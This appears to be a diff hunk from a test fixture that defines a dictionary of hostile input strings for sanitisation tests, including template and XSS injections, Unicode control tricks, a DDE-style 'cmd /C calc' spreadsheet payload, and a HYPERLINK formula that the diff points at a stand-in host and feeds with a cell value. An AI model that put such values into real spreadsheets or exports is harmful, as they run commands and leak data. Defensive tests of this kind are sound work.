@@ -29,7 +29,7 @@ HOSTILE = {
     "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} javascript:alert(1)",
     "hidden": "paid \u202e0001 RUE\u202c zero\u200bwidth \x1b[2J bell\x07 \u2028 line \U0001f600 \u05e9\u05dc\u05d5\u05dd",
     "long": "x" * 20_000 + " " + "no-break" * 500,
-    "formula": '=HYPERLINK("http://127.0.0.1/"&A1,"look")',
+    "formula": '=HYPERLINK("http://harm.invalid/"&A1,"look")',
     "command": "  @SUM(1+1)*cmd|' /C calc'!A0",
     "fullwidth": "\uff1d1+1",
     "lines": 'first\nsecond\tcolumn "quoted", and a comma\r\nthird',
